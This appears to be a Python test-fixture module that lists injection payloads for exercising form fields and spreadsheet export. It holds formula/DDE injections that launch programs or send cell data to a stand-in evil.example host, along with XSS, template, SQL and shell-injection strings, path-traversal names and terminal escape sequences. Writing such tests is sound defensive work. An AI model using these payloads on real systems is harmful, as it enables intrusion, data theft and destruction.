"""What somebody might write into a form so that it comes alive somewhere else; all of it is text to us."""

from tests.depth import THOROUGH

RLO, LRE, PDI, ISOLATE = "\u202e", "\u202a", "\u2069", "\u2067"

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=", "=A1", "{=1+1}",
    "=1+1\x00",
    "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
    "=IMAGE(\"http://evil.example\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=RTD(\"x\",,\"y\")",
    "='file://evil/[x.xlsx]S'!A1", "=[1]Sheet1!A1", "=INDIRECT(\"A1\")", "=CALL(\"k\",\"m\",\"J\")",
    "=EXEC(\"calc\")",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1", "%0A=1+1",
    "=\u20281+1",
    "\ufeff=1+1", "\u200b=1+1", "\x1b=1+1", "_x003D_1+1", "_x005F_x003D_1", "_x000D_=1", "_x0000_", "_xD800_",
    "http://evil.example", "mailto:x@evil.example", "file:///etc/passwd", "\\\\evil\\share\\x",
    "ftp://evil.example",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "https://evil.example/" + "a" * 300,
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)",
    "`onerror=alert(1)`",
    "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=//evil.example>",
    "<style>*{display:none}</style>",
    "</style><b>", "<meta http-equiv=refresh content=0>", "<base href=//evil.example>",
    "<form action=//evil.example>",
    "<!-- -->", "--><b>", "<![CDATA[x]]>", "]]>", "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>", "&lt;b&gt;",
    "&#x3c;script&#x3e;", "&a;", "</t></is></c><c><f>1+1</f></c>", "</v><f>1+1</f>", "</textarea><b>",
    "</title><b>", "<b>x",
    "expression(alert(1))", "url(javascript:alert(1))", "<math><mtext></mtext></math>",
    "\\u003cscript\\u003e", "%3Cscript%3E",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{{ config.__class__ }}", "{0.__class__}", "{value}",
    "{value.__class__.__mro__}", "{", "}", "{}",
    "%s%n%x", "%(value)s", "${7*7}", "#{7*7}", "[bold red]x[/]", "[link=http://evil.example]x[/link]",
    "$(id)", "`id`", "; rm -rf x",
    "&L&\"x\"&P", "&[File]", "\\", "\\n", "\"", "'", "\",\"admin\":true,\"", "\"}]}", "null", "NaN",
    "__proto__", "' OR 1=1 --",
    "'; DROP TABLE runs; --", "a\",\"b\n=1+1", "\x85next", "\u2028", "\u2029",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31m", "\x9d0;t\x9c",
    "\x07", "\x08\x08\x08", "\r\x1b[K", "\x1bc", "\x1b[5n", "\x1bP+q\x1b\\", "\x7f", "\x00", "a\x00b",
    f"{RLO}xslx.exe", f"{LRE}abc{PDI}", f"{ISOLATE}a", "\u200bzero\u200dwidth", "\u2060", "\u061c",
    "\u00ad", "\ufff9\ufffa", "e\u0301" * 40,
    "\U000e0041\U000e0042", "\U0001f468\u200d\U0001f469", "x" * 5000, "\u6f22" * 3000, "\ufffe\uffff",
    "\u3164", "\u180e",
)  # fmt: skip
NAMES = (
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "..", ".", "...", "~", "~$x", "CON",
    "con.xlsx", "NUL.", "aux",
    "COM1", "LPT9.x", "CONIN$", "COM\u00b9", "a/b", "a\\b", "a:b", "a::$DATA", "x.xlsx.exe", "x .", "x.",
    " x ", "-rf", "--help",
    "a\u2215b", "\uff0e\uff0e\uff0fx", "desktop.ini", ".htaccess", "a?b*c|d<e>f", "n" * 240,
)  # fmt: skip
PAYLOADS = (*FORMULAS, *MARKUP, *TEMPLATES, *TERMINAL, *NAMES)
ON_A_DAY = PAYLOADS if THOROUGH else PAYLOADS[::3]  # a day with each in every field costs a third so
